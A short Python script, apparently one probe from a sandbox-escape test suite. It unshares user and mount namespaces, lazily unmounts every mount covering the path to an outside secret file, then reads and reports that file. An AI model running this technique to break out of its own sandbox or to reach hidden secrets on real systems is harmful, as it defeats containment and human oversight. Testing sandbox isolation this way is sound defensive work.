# Unmounts whatever covers the way to a file outside, in namespaces of its own where it may.
from escape import *
if libc.unshare(0x10000000 | 0x20000) == 0:
    path = os.path.dirname(E["OUTSIDE_SECRET"])
    while path != "/":
        while libc.umount2(path.encode(), 2) == 0:
            pass
        path = os.path.dirname(path)
token_in(open(E["OUTSIDE_SECRET"]).read(), "what was covered")
